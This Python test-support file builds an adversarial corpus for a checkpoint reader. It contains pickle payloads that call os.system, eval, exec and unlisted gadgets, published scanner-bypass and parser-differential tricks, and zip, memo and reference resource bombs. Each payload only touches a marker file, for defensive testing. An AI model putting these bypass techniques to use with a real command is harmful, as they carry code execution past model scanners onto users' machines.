"""Hostile inputs, built byte by byte: code-execution payloads, resource bombs, broken archives.

Used by the security tests and by ``tests/cli/test_adversarial_cli.py`` (every command on every
file); ``python -m tests.support.adversarial OUT_DIR`` writes the whole corpus (:func:`corpus`)
to a folder so any tool can be tried on it. Besides files built from scratch it holds damaged
copies of real fixtures (a flipped byte, a renamed local header, 20 truncations each of a zip, a
legacy and a safetensors file). Every code-execution payload, if it ran, would create the file
named by ``marker`` — tests assert that file never appears.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from ckpttool.formats.torch_legacy.reader import MAGIC_NUMBER, PROTOCOL_VERSION
from tests.support.helpers import FIXTURES


def _text(s: str) -> bytes:
    return s.encode()


def _binunicode(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _short_unicode(s: str) -> bytes:
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _command(marker: Path) -> str:
    return f"touch {marker}"


# --- code-execution payloads: name -> builder(marker) -> pickle bytes -----------------------


def global_reduce_p0(marker: Path, module: str = "os", name: str = "system") -> bytes:
    return _text(f"c{module}\n{name}\n(S'{_command(marker)}'\ntR.")


def global_reduce_p2(marker: Path, module: str = "posix", name: str = "system") -> bytes:
    return b"\x80\x02" + _text(f"c{module}\n{name}\n") + _binunicode(_command(marker)) + b"\x85R."


def stack_global_p4(marker: Path) -> bytes:
    body = _short_unicode("os") + _short_unicode("system") + b"\x93"
    body += _short_unicode(_command(marker)) + b"\x85R."
    return b"\x80\x04" + body


def inst_p0(marker: Path) -> bytes:
    return _text(f"(S'{_command(marker)}'\nios\nsystem\n.")


def obj_p1(marker: Path) -> bytes:
    return _text(f"(cos\nsystem\nS'{_command(marker)}'\no.")


def memo_indirection_p2(marker: Path) -> bytes:
    # the callable goes into the memo, is popped, and comes back through BINGET
    return b"\x80\x02cos\nsystem\nq\x070" + b"h\x07" + _binunicode(_command(marker)) + b"\x85R."


def builtins_eval_p2(marker: Path) -> bytes:
    code = f"__import__('os').system('{_command(marker)}')"
    return b"\x80\x02cbuiltins\neval\n" + _binunicode(code) + b"\x85R."


def subprocess_popen_p2(marker: Path) -> bytes:
    args = b"](" + _binunicode("touch") + _binunicode(str(marker)) + b"e"
    return b"\x80\x02csubprocess\nPopen\n" + args + b"\x85R."


def nested_in_checkpoint_p2(marker: Path) -> bytes:
    """A plausible checkpoint dict with one entry that calls os.system."""
    payload = global_reduce_p2(marker, "os", "system")[2:-1]  # without PROTO and STOP
    return b"\x80\x02}(" + _binunicode("epoch") + b"K\x01" + _binunicode("config") + payload + b"u."


def frame_memoize_p4(marker: Path) -> bytes:
    """Protocol 4 as CPython writes it: a FRAME, MEMOIZE, STACK_GLOBAL, the callable via BINGET."""
    body = _short_unicode("os") + b"\x94" + _short_unicode("system") + b"\x94\x93\x94" + b"0"
    body += b"h\x02" + _short_unicode(_command(marker)) + b"\x85R."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def pydoc_pipepager_p2(marker: Path) -> bytes:
    """A gadget outside the usual block lists: pydoc.pipepager(text, cmd) runs a shell."""
    return (
        b"\x80\x02cpydoc\npipepager\n" + _binunicode("") + _binunicode(_command(marker)) + b"\x86R."
    )


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "global_reduce_p0_os_system": global_reduce_p0,
    "global_reduce_p2_posix_system": global_reduce_p2,
    "stack_global_p4_os_system": stack_global_p4,
    "inst_p0_os_system": inst_p0,
    "obj_p1_os_system": obj_p1,
    "memo_indirection_p2": memo_indirection_p2,
    "builtins_eval_p2": builtins_eval_p2,
    "subprocess_popen_p2": subprocess_popen_p2,
    "nested_in_checkpoint_p2": nested_in_checkpoint_p2,
    "frame_memoize_p4": frame_memoize_p4,
    "pydoc_pipepager_p2": pydoc_pipepager_p2,
}


def touch_marker(path: str) -> None:
    """A callable no deny-list names: what an unknown gadget looks like to the reader."""
    Path(path).touch()


def unlisted_callable_p2(marker: Path) -> bytes:
    """Calls tests.support.adversarial.touch_marker: not on any deny-list, so the reader does
    not refuse the file; it must record the call as an opaque object and still never make it."""
    return (
        b"\x80\x02ctests.support.adversarial\ntouch_marker\n" + _binunicode(str(marker)) + b"\x85R."
    )


def build_on_allowed_global() -> bytes:
    """BUILD aimed at a class the reader knows: would set attributes on the real class."""
    return b"\x80\x02ccollections\nOrderedDict\n}" + _binunicode("__repr__") + b"K\x01sb."


# --- resource bombs --------------------------------------------------------------------


def memo_bomb() -> bytes:
    return b"\x80\x02N" + b"r" + struct.pack("<I", 0x7FFFFFFF) + b"."


def binbytes8_terabyte() -> bytes:
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"abc."


def deep_nesting(depth: int = 100_000) -> bytes:
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


def deep_marks(depth: int = 1_000_000) -> bytes:
    return b"\x80\x02" + b"(" * depth + b"."


def self_reference() -> bytes:
    """A list holding itself: legitimate (a parent link is the same construct), read with a
    back-reference where it meets itself."""
    return b"\x80\x02]q\x00h\x00a."


def reference_bomb() -> bytes:
    """A 3 KB "billion laughs": 19 references to 1,000 references to a list of 1,000 ints."""
    body = b"\x80\x02]q\x00(" + b"K\x01" * 1000 + b"e0"
    body += b"]q\x01(" + b"h\x00" * 1000 + b"e0"
    return body + b"]q\x02(" + b"h\x01" * 19 + b"e."


def tensor_reference_bomb() -> bytes:
    """1.4 KB of pickle naming one tensor 316 x 316 times: 100,000 rows for every consumer."""
    tensor = tensor_pickle("0", 4, (4,))
    tensor = tensor[tensor.index(b"ctorch._utils") : -2]  # the value of {"w": ...}
    body = b"\x80\x02" + tensor + b"q\x000" + b"]q\x01(" + b"h\x00" * 316 + b"e0"
    return torch_zip(body + b"]q\x02(" + b"h\x01" * 316 + b"e.", {"0": bytes(16)})


def huge_int() -> bytes:
    """{"step": an integer of 5,000 digits}: Python refuses to print it (ValueError)."""
    value = 10**5000
    raw = value.to_bytes((value.bit_length() >> 3) + 1, "little", signed=True)
    return b"\x80\x02}" + _binunicode("step") + b"\x8b" + struct.pack("<i", len(raw)) + raw + b"s."


def text_line_flood(lines: int = 100_000) -> bytes:
    """A protocol-0 list of 100,000 text INTs: each opcode reads a line; must stay linear."""
    return b"(" + b"I1\n" * lines + b"l."


def zip_bomb_data_pkl(inflated: int = 256 << 20) -> bytes:
    """A deflated data.pkl of ~250 KB that inflates to 256 MB (torch never compresses)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("archive/data.pkl", "w", force_zip64=True) as record,
    ):
        record.write(b"\x80\x02N.")
        chunk = bytes(1 << 20)
        for _ in range(inflated >> 20):
            record.write(chunk)
    return buffer.getvalue()


def record_size_lie() -> bytes:
    """The central directory says data/0 holds 4 GiB (the file has 16 bytes); the pickle's
    storage agrees, so the sizes match each other and only the file's size exposes the lie."""
    from ckpttool.formats.torch_zip.zip_writer import TorchZipWriter

    buffer = io.BytesIO()
    writer = TorchZipWriter(buffer)
    writer.write("archive/data.pkl", tensor_pickle("0", 1 << 30, (1 << 30,)))
    writer.write("archive/data/0", bytes(16))
    writer.entries[-1].size = 1 << 32
    writer.close()
    return buffer.getvalue()


def deflated_storage() -> bytes:
    """A re-zipped checkpoint: its storage record deflated (torch.load reads it; mmap cannot)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", tensor_pickle("0", 4, (4,)))
        archive.writestr("archive/data/0", bytes(16))
    return buffer.getvalue()


# --- containers for a pickle: torch zip, legacy stream -----------------------------------


def torch_zip(
    pickle_bytes: bytes, records: dict[str, bytes] | None = None, prefix: str = "archive"
) -> bytes:
    """A torch-style zip: ``<prefix>/data.pkl`` + ``<prefix>/data/<key>`` records, stored."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{prefix}/data.pkl", pickle_bytes)
        archive.writestr(f"{prefix}/byteorder", "little")
        for key, data in (records or {}).items():
            archive.writestr(f"{prefix}/data/{key}", data)
        archive.writestr(f"{prefix}/version", "3\n")
    return buffer.getvalue()


def legacy_stream(pickle_bytes: bytes) -> bytes:
    head = pickle.dumps(MAGIC_NUMBER, protocol=2) + pickle.dumps(PROTOCOL_VERSION, protocol=2)
    head += pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return head + pickle_bytes + pickle.dumps([], protocol=2)


def tensor_pickle(storage_key: str, storage_numel: int, shape: tuple[int, ...]) -> bytes:
    """data.pkl for {"w": float32 tensor of ``shape``} on storage ``storage_key``."""
    pid = (
        b"(" + _binunicode("storage") + b"ctorch\nFloatStorage\n" + _binunicode(storage_key)
        + _binunicode("cpu") + _int(storage_numel) + b"tQ"
    )  # fmt: skip
    stride = []
    acc = 1
    for n in reversed(shape):
        stride.append(acc)
        acc *= n
    size_t = b"(" + b"".join(_int(n) for n in shape) + b"t"
    stride_t = b"(" + b"".join(_int(s) for s in reversed(stride)) + b"t"
    tensor = (
        b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + b"K\x00" + size_t + stride_t
        + b"\x89ccollections\nOrderedDict\n)Rt" + b"R"
    )  # fmt: skip
    return b"\x80\x02}" + _binunicode("w") + tensor + b"s."


def _int(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def storage_larger_than_record() -> bytes:
    return torch_zip(tensor_pickle("0", 1000, (1000,)), {"0": b"\x00" * 16})


def extent_past_storage() -> bytes:
    return torch_zip(tensor_pickle("0", 4, (1000,)), {"0": b"\x00" * 16})


def duplicate_data_pkl() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({"a": 1}, protocol=2))
        archive.writestr("archive/data.pkl", pickle.dumps({"a": 2}, protocol=2))
    return buffer.getvalue()


#: Archives that are structurally broken, with the message the reader gives for each.
BROKEN_ARCHIVES: list[tuple[Callable[[], bytes], str]] = [
    (storage_larger_than_record, "claims 4,000 bytes but the file holds 16"),
    (extent_past_storage, "reaches byte 4,000 of its storage, which has 16"),
    (duplicate_data_pkl, "two records named 'archive/data.pkl'"),
]


def safetensors_file(header: dict[str, object], data: bytes, length: int | None = None) -> bytes:
    """A safetensors file from a header dict and data bytes; ``length`` overrides N."""
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def _entry(begin: int, end: int, shape: list[int]) -> dict[str, object]:
    return {"dtype": "F32", "shape": shape, "data_offsets": [begin, end]}


SAFETENSORS_BROKEN: dict[str, Callable[[], bytes]] = {
    "overlap": lambda: safetensors_file(
        {"a": _entry(0, 8, [2]), "b": _entry(4, 12, [2])}, bytes(12)
    ),
    "gap": lambda: safetensors_file({"a": _entry(0, 8, [2]), "b": _entry(12, 20, [2])}, bytes(20)),
    "trailing": lambda: safetensors_file({"a": _entry(0, 8, [2])}, bytes(12)),
    "size_mismatch": lambda: safetensors_file({"a": _entry(0, 8, [3])}, bytes(8)),
    "header_past_end": lambda: safetensors_file({"a": _entry(0, 8, [2])}, bytes(8), length=4096),
    "header_over_100mb": lambda: safetensors_file(
        {"a": _entry(0, 8, [2])}, bytes(8), length=200_000_000
    ),
    # JSON that Python's decoder itself chokes on: RecursionError, ValueError (int digits)
    "deep_json": lambda: _raw_safetensors(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "huge_int": lambda: _raw_safetensors(
        b'{"a":{"dtype":"F32","shape":[' + b"7" * 5000 + b'],"data_offsets":[0,4]}}', bytes(4)
    ),
    "unhashable_dtype": lambda: safetensors_file(
        {"a": {"dtype": ["F32"], "shape": [1], "data_offsets": [0, 4]}}, bytes(4)
    ),
    "huge_shape": lambda: safetensors_file(
        {"a": {"dtype": "F32", "shape": [2**62] * 200, "data_offsets": [0, 4]}}, bytes(4)
    ),
}


def _raw_safetensors(header: bytes, data: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + data


# --- damaged copies of real fixtures --------------------------------------------------------

#: The real files the corpus damages: a MiniMind resume (torch zip), a legacy file, safetensors.
TRUNCATED_SOURCES = {
    "resume": FIXTURES / "minimind/pretrain_32_resume.pth",
    "legacy": FIXTURES / "legacy/resume_bigkeys.pth",
    "safetensors": FIXTURES / "safetensors/model.safetensors",
}


def truncation_offsets(size: int, count: int = 20) -> list[int]:
    """``count`` cut points: inside the first header, spread over the file, in the zip's tail."""
    fixed = [1, 8, 30, 100, size - 100, size - 22, size - 1]
    spread = [size * k // (count - len(fixed) + 1) for k in range(1, count - len(fixed) + 1)]
    offsets = sorted(set(fixed + spread))
    assert len(offsets) == count and offsets[0] > 0 and offsets[-1] < size
    return offsets


def truncated(source: Path, offset: int) -> bytes:
    return source.read_bytes()[:offset]


def _record_data_start(data: bytes, suffix: str) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith(suffix))
    name_len, extra_len = struct.unpack(
        "<HH", data[info.header_offset + 26 : info.header_offset + 30]
    )
    return info.header_offset + 30 + name_len + extra_len


def bad_crc() -> bytes:
    """The MiniMind resume fixture with one byte of a storage flipped: only a CRC shows it."""
    data = bytearray(TRUNCATED_SOURCES["resume"].read_bytes())
    data[_record_data_start(bytes(data), "/data/5") + 3] ^= 0xFF
    return bytes(data)


def local_header_mismatch() -> bytes:
    """The resume fixture with a local header naming a record other than the directory does."""
    data = bytearray(TRUNCATED_SOURCES["resume"].read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith("/data/3"))
    data[info.header_offset + 30 + len(info.filename) - 1] = ord("9")
    return bytes(data)


def corpus(marker: Path) -> dict[str, bytes]:
    """Every hostile input by file name. The suffix tells the container (``.pkl`` bare pickle,
    ``.zip.pth``/``.pth`` torch zip, ``.legacy.pth`` legacy stream, ``.safetensors``)."""
    files: dict[str, bytes] = {}
    for name, build in {**PAYLOADS, "unlisted_callable_p2": unlisted_callable_p2}.items():
        payload = build(marker)
        files[f"{name}.pkl"] = payload
        files[f"{name}.zip.pth"] = torch_zip(payload)
        files[f"{name}.legacy.pth"] = legacy_stream(payload)
    files["build_on_allowed_global.pth"] = torch_zip(build_on_allowed_global())
    files["memo_bomb.pth"] = torch_zip(memo_bomb())
    files["binbytes8_terabyte.pth"] = torch_zip(binbytes8_terabyte())
    files["deep_nesting.pth"] = torch_zip(deep_nesting())
    files["deep_marks.pkl"] = deep_marks()
    files["self_reference.pth"] = torch_zip(self_reference())
    files["reference_bomb.pkl"] = reference_bomb()
    files["tensor_reference_bomb.pth"] = tensor_reference_bomb()
    files["huge_int.pth"] = torch_zip(huge_int())
    files["text_line_flood.pkl"] = text_line_flood()
    files["zip_bomb_data_pkl.pth"] = zip_bomb_data_pkl()
    files["record_size_lie.pth"] = record_size_lie()
    files["deflated_storage.pth"] = deflated_storage()
    files["storage_larger_than_record.pth"] = storage_larger_than_record()
    files["extent_past_storage.pth"] = extent_past_storage()
    files["duplicate_data_pkl.pth"] = duplicate_data_pkl()
    files["bad_crc.pth"] = bad_crc()
    files["local_header_mismatch.pth"] = local_header_mismatch()
    files["torchscript.pt"] = (FIXTURES / "special/torchscript.pt").read_bytes()
    for name, build_broken in SAFETENSORS_BROKEN.items():
        files[f"safetensors_{name}.safetensors"] = build_broken()
    for kind, source in TRUNCATED_SOURCES.items():
        for offset in truncation_offsets(source.stat().st_size):
            files[f"truncated_{kind}_{offset}{source.suffix}"] = truncated(source, offset)
    return files


# --- parser differentials and published scanner bypasses -----------------------------------
#
# Each builder takes the marker path its payload would create and returns the file's bytes; the
# name in DIFFERENTIAL gives the container. ``tests/test_scan_differential.py`` loads every one
# with torch.load(weights_only=False) in a throwaway child to learn whether its payload is live.


def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _stack_call(marker: Path) -> bytes:
    """Protocol-4 opcodes that call os.system (no PROTO, no STOP)."""
    return (
        _short_unicode("os") + _short_unicode("system") + b"\x93"
        + _short_unicode(_command(marker)) + b"\x85R"
    )  # fmt: skip


def frame_split_argument(marker: Path) -> bytes:
    """A BINUNICODE whose bytes run past its FRAME's end. torch.load (the C unpickler on a
    BytesIO) drops the frame's last bytes and reads the string from after the frame, so it runs
    the call that a linear reader (pickle.loads, ckpttool before, most scanners) reads as the
    data of a SHORT_BINBYTES."""
    payload = _stack_call(marker)
    frame = _frame(b"X" + struct.pack("<I", 4) + b"abc")
    return b"\x80\x04" + frame + b"wC" + bytes([len(payload) + 1]) + b"z" + payload + b"00N."


def frame_split_line(marker: Path) -> bytes:
    """A GLOBAL whose name line runs past its FRAME's end: torch.load reads the name from the
    bytes after the frame (``system``), a linear reader reads ``xsystem``."""
    frame = _frame(b"cposix\nx")
    return b"\x80\x04" + frame + b"system\n" + _binunicode(_command(marker)) + b"\x85R."


def frame_nested(marker: Path) -> bytes:
    """A FRAME that begins inside another and runs past its end: torch.load skips the rest of
    the outer frame and runs the call that a linear reader takes as SHORT_BINBYTES data."""
    payload = _stack_call(marker)
    after = payload + b"0N."
    outer = _frame(b"\x95" + struct.pack("<Q", len(after)) + b"C" + bytes([len(payload)]))
    return b"\x80\x04" + outer + after


def frame_stop_inside(marker: Path) -> bytes:
    """A FRAME holding bytes after the STOP: a legacy stream's next pickle starts at the STOP
    for a linear reader and at the frame's end for the C unpickler on a file."""
    return b"\x80\x04" + _frame(b"N." + b"\x80\x02" + global_reduce_p2(marker)[2:])


def _lead(opcodes: bytes) -> Callable[[Path], bytes]:
    """A protocol-0 payload behind a first opcode other than PROTO or MARK (and a POP)."""
    return lambda marker: opcodes + global_reduce_p0(marker)


def frame_first(marker: Path) -> bytes:
    """A pickle that begins with a (regular) FRAME, no PROTO."""
    return _frame(_stack_call(marker) + b".")


def stop_with_open_mark(marker: Path) -> bytes:
    """The call, then a MARK left open at STOP: the C unpickler returns the top of the stack;
    ckpttool's walker refuses the pickle after having seen the call."""
    return global_reduce_p2(marker)[:-1] + b"(N."


def ext_after_payload(marker: Path) -> bytes:
    """The call, then an EXT1 (an extension-registry lookup ckpttool does not read)."""
    return global_reduce_p2(marker)[:-1] + b"0\x82\x01."


def garbage_after_payload(marker: Path) -> bytes:
    """The call, then a byte that is no opcode: torch.load fails, after running the call."""
    return global_reduce_p2(marker)[:-1] + b"\xff."


def deep_marks_then_payload(marker: Path) -> bytes:
    """2,100 MARKs (past ckpttool's nesting limit, nothing to the C unpickler), then the call."""
    return b"(" * 2100 + global_reduce_p0(marker)


def memo_strings_stack_global(marker: Path) -> bytes:
    """STACK_GLOBAL's names put in the memo, buried under other strings, fetched back: scanners
    that look at the last strings pushed see ``junk``."""
    body = _binunicode("os") + b"q\x00" + _binunicode("system") + b"q\x01" + b"00"
    body += _binunicode("junk") + _binunicode("junk") + b"00" + b"h\x00h\x01\x93"
    return b"\x80\x04" + body + _binunicode(_command(marker)) + b"\x85R."


def dotted_name_p4(marker: Path) -> bytes:
    """GLOBAL torch.serialization / os.system: from protocol 4 find_class follows dotted names,
    so a harmless module's import of ``os`` reaches os.system."""
    return b"\x80\x04ctorch.serialization\nos.system\n" + _binunicode(_command(marker)) + b"\x85R."


def _call_p2(module: str, name: str, *args: str) -> bytes:
    """``module.name(*args)`` for string arguments (protocol 2, no PROTO/STOP)."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(_binunicode, args)) + b"tR"


def torch_collect_env_run(marker: Path) -> bytes:
    """torch.utils.collect_env.run(command): a shell, in torch (modelscan issue #338)."""
    return b"\x80\x02" + _call_p2("torch.utils.collect_env", "run", _command(marker)) + b"."


def distutils_write_file(marker: Path) -> bytes:
    """distutils.file_util.write_file(path, []): writes a file (CVE-2025-10156's gadget class)."""
    return b"\x80\x02cdistutils.file_util\nwrite_file\n" + _binunicode(str(marker)) + b"]\x86R."


def io_fileio(marker: Path) -> bytes:
    """_io.FileIO(path, 'w'): creates a file; io.BytesIO is the data record next door."""
    return b"\x80\x02" + _call_p2("_io", "FileIO", str(marker), "w") + b"."


def operator_methodcaller(marker: Path) -> bytes:
    """operator.methodcaller('touch')(PosixPath(path)): a method call on a data record."""
    path = _call_p2("pathlib", "PosixPath", str(marker))
    return b"\x80\x02" + _call_p2("operator", "methodcaller", "touch") + b"(" + path + b"tR."


def getattr_method_call(marker: Path) -> bytes:
    """builtins.getattr(PosixPath(path), 'touch')(): getattr outside any torch namespace."""
    path = _call_p2("pathlib", "PosixPath", str(marker))
    getter = b"cbuiltins\ngetattr\n(" + path + _binunicode("touch") + b"tR"
    return b"\x80\x02" + getter + b")R."


def import_module_getattr(marker: Path) -> bytes:
    """getattr(importlib.import_module('os'), 'system')(command) (modelscan issue #331)."""
    module = _call_p2("importlib", "import_module", "os")
    getter = b"cbuiltins\ngetattr\n(" + module + _binunicode("system") + b"tR"
    return b"\x80\x02" + getter + b"(" + _binunicode(_command(marker)) + b"tR."


def nested_pickle_loads(marker: Path) -> bytes:
    """pickle.loads(a pickle that calls os.system) (modelscan issue #267)."""
    inner = global_reduce_p0(marker)
    return b"\x80\x02c_pickle\nloads\n" + b"C" + bytes([len(inner)]) + inner + b"\x85R."


def cprofile_run(marker: Path) -> bytes:
    """cProfile.run(source): runs Python source (picklescan advisory GHSA-46h3-79wf-xr6c)."""
    source = f"import os; os.system('{_command(marker)}')"
    return b"\x80\x02" + _call_p2("cProfile", "run", source) + b"."


def numpy_runstring(marker: Path) -> bytes:
    """numpy.testing._private.utils.runstring(source, {}): exec in NumPy's test helpers."""
    source = f"import os; os.system('{_command(marker)}')"
    call = b"cnumpy.testing._private.utils\nrunstring\n(" + _binunicode(source) + b"}tR"
    return b"\x80\x02" + call + b"."


def py2_builtin_exec(marker: Path) -> bytes:
    """__builtin__.exec (the Python 2 name protocol 0-2 pickles use, mapped by the unpickler)."""
    source = f"import os; os.system('{_command(marker)}')"
    return _text(f"c__builtin__\nexec\n(S'{source}'\ntR.")


def partial_called(marker: Path) -> bytes:
    """functools.partial(os.system, command), then the partial itself called."""
    partial = b"cfunctools\npartial\n(cos\nsystem\n" + _binunicode(_command(marker)) + b"tR"
    return b"\x80\x02" + partial + b")R."


def partial_rebound(marker: Path) -> bytes:
    """functools.partial(torch relu) whose BUILD rebinds it to posix.system, then called."""
    partial = b"cfunctools\npartial\nctorch.nn.functional\nrelu\n\x85R"
    state = b"(cposix\nsystem\n" + _binunicode(_command(marker)) + b"\x85NNtb"
    return b"\x80\x02" + partial + state + b")R."


def getattr_torch_unlisted(marker: Path) -> bytes:
    """getattr(torch._C._VariableFunctionsClass, 'from_file'): a torch namespace, a name that
    is no tensor function (torch.from_file opens a path)."""
    getter = b"cbuiltins\ngetattr\nctorch._C\n_VariableFunctionsClass\n" + _binunicode("from_file")
    return b"\x80\x02" + getter + b"\x86R(" + _binunicode(str(marker)) + b"\x88K\x01tR."


#: The differential corpus by file name (the suffix gives the container; see ``corpus``).
DIFFERENTIAL: dict[str, Callable[[Path], bytes]] = {
    "frame_split_argument.zip.pth": lambda m: torch_zip(frame_split_argument(m)),
    "frame_split_argument.legacy.pth": lambda m: legacy_stream(frame_split_argument(m)),
    "frame_split_argument.pkl": frame_split_argument,
    "frame_split_line.zip.pth": lambda m: torch_zip(frame_split_line(m)),
    "frame_nested.zip.pth": lambda m: torch_zip(frame_nested(m)),
    "frame_nested.legacy.pth": lambda m: legacy_stream(frame_nested(m)),
    "frame_stop_inside.legacy.pth": lambda m: legacy_stream(frame_stop_inside(m)),
    # a pickle under any name and any first opcode (CVE-2025-10155: a scanner that decides by
    # the extension, or by the first bytes, skips it)
    "first_opcode_V.json": _lead(b"Vmodel\n0"),
    "first_opcode_S.txt": _lead(b"S'model'\n0"),
    "first_opcode_N.bin": _lead(b"N0"),
    "first_opcode_I.md": _lead(b"I1\n0"),
    "first_opcode_K.png": _lead(b"K\x010"),
    "first_opcode_empty_tuple.yaml": _lead(b")0"),
    "first_opcode_X.cfg": _lead(_binunicode("model") + b"0"),
    "first_opcode_G.npy": _lead(b"G" + struct.pack(">d", 1.0) + b"0"),
    "first_opcode_frame.pt": frame_first,
    "stop_with_open_mark.pkl": stop_with_open_mark,
    "stop_with_open_mark.legacy.pth": lambda m: legacy_stream(stop_with_open_mark(m)),
    "ext_after_payload.pkl": ext_after_payload,
    "ext_after_payload.legacy.pth": lambda m: legacy_stream(ext_after_payload(m)),
    "garbage_after_payload.pkl": garbage_after_payload,
    "garbage_after_payload.zip.pth": lambda m: torch_zip(garbage_after_payload(m)),
    "deep_marks_then_payload.pkl": deep_marks_then_payload,
    "memo_strings_stack_global.zip.pth": lambda m: torch_zip(memo_strings_stack_global(m)),
    "dotted_name_p4.zip.pth": lambda m: torch_zip(dotted_name_p4(m)),
    "torch_collect_env_run.zip.pth": lambda m: torch_zip(torch_collect_env_run(m)),
    "distutils_write_file.zip.pth": lambda m: torch_zip(distutils_write_file(m)),
    "io_fileio.zip.pth": lambda m: torch_zip(io_fileio(m)),
    "operator_methodcaller.zip.pth": lambda m: torch_zip(operator_methodcaller(m)),
    "getattr_method_call.zip.pth": lambda m: torch_zip(getattr_method_call(m)),
    "import_module_getattr.zip.pth": lambda m: torch_zip(import_module_getattr(m)),
    "nested_pickle_loads.zip.pth": lambda m: torch_zip(nested_pickle_loads(m)),
    "cprofile_run.zip.pth": lambda m: torch_zip(cprofile_run(m)),
    "numpy_runstring.zip.pth": lambda m: torch_zip(numpy_runstring(m)),
    "py2_builtin_exec.legacy.pth": lambda m: legacy_stream(py2_builtin_exec(m)),
    "py2_builtin_exec.pkl": py2_builtin_exec,
    "partial_called.zip.pth": lambda m: torch_zip(partial_called(m)),
    "partial_rebound.zip.pth": lambda m: torch_zip(partial_rebound(m)),
    "getattr_torch_unlisted.zip.pth": lambda m: torch_zip(getattr_torch_unlisted(m)),
}


def hostile_pickles(marker_for: Callable[[str], Path]) -> dict[str, bytes]:
    """Every code-execution file: the payloads in each container, the unlisted callable and the
    differential corpus; ``marker_for(name)`` is the marker the file's payload would create."""
    files: dict[str, bytes] = {}
    for name, build in {**PAYLOADS, "unlisted_callable_p2": unlisted_callable_p2}.items():
        for suffix, wrap in (
            (".pkl", _same),
            (".zip.pth", torch_zip),
            (".legacy.pth", legacy_stream),
        ):
            files[name + suffix] = wrap(build(marker_for(name + suffix)))
    files["build_on_allowed_global.zip.pth"] = torch_zip(build_on_allowed_global())
    for name, build_file in DIFFERENTIAL.items():
        files[name] = build_file(marker_for(name))
    return files


def _same(data: bytes) -> bytes:
    return data


# --- the benign side: what torch.save writes for common objects ------------------------------


@dataclass
class TrainConfig:
    """A dataclass config, as training scripts save them (a class torch.load imports)."""

    lr: float = 3e-4
    layers: int = 2
    name: str = "tiny"


def benign_objects() -> dict[str, object]:
    """Common things people torch.save, by name (torch and NumPy imported here, not at import)."""
    import argparse
    import functools

    import numpy
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LayerNorm(3), torch.nn.GELU())
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.ones(2, 4)).sum().backward()
    optimizer.step()
    args = argparse.Namespace(lr=1e-3, epochs=3, name="run")
    return {
        "state_dict": model.state_dict(),
        "optimizer": optimizer.state_dict(),
        "module": model,
        "resume": {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3,
                   "rng": torch.get_rng_state(), "args": args, "config": TrainConfig()},
        "dataclass_config": {"config": TrainConfig(), "step": 7},
        "namespace": {"args": args},
        "numpy": {"weights": numpy.arange(6, dtype=numpy.float32).reshape(2, 3),
                  "ids": numpy.arange(3), "scale": numpy.float64(0.5)},
        "partial_configs": {
            "optimizer": functools.partial(torch.optim.AdamW, lr=3e-4, weight_decay=0.1),
            "act": functools.partial(torch.nn.functional.gelu, approximate="tanh"),
            "norm": functools.partial(torch.nn.LayerNorm, eps=1e-5),
            "funcs": [torch.relu, torch.tanh, torch.nn.functional.silu, torch.nn.init.normal_,
                      torch.Tensor.add],
        },
    }  # fmt: skip


def write_benign(out: Path) -> list[Path]:
    """Each of :func:`benign_objects` saved by torch.save in both formats (zip, legacy) and
    every pickle protocol torch accepts (2 to 5)."""
    import torch

    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, obj in benign_objects().items():
        for zipped in (True, False):
            for protocol in (2, 3, 4, 5):
                path = out / f"{name}.{'zip' if zipped else 'legacy'}.p{protocol}.pt"
                torch.save(obj, path, pickle_protocol=protocol,
                           _use_new_zipfile_serialization=zipped)  # fmt: skip
                paths.append(path)
    return paths


def write_corpus(out: Path, marker: Path, differential: bool = False) -> list[Path]:
    """Write every hostile input under ``out`` (``python -m tests.support.adversarial`` adds the
    differential corpus, in ``out/differential``)."""
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    files = corpus(marker)
    if differential:
        files |= {
            f"differential/{n}": data for n, data in hostile_pickles(lambda n: marker).items()
        }
        (out / "differential").mkdir(exist_ok=True)
    for name, data in files.items():
        path = out / name
        path.write_bytes(data)
        paths.append(path)
    return paths


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "adversarial-corpus")
    written = write_corpus(target, target / "PWNED", differential=True)
    print(f"wrote {len(written)} files to {target}")
